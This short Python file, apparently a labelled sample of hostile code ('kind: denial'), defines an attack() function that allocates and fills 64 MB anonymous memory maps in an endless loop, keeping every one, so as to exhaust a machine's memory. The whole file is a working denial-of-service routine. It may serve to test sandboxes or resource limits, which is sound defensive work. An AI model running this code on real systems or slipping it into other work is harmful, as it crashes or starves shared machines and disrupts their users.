"""Fills shared memory.

kind: denial
"""

import mmap
def attack():
    kept = []
    while True:
        m = mmap.mmap(-1, 64 << 20); m.write(b'x' * (64 << 20)); kept.append(m)
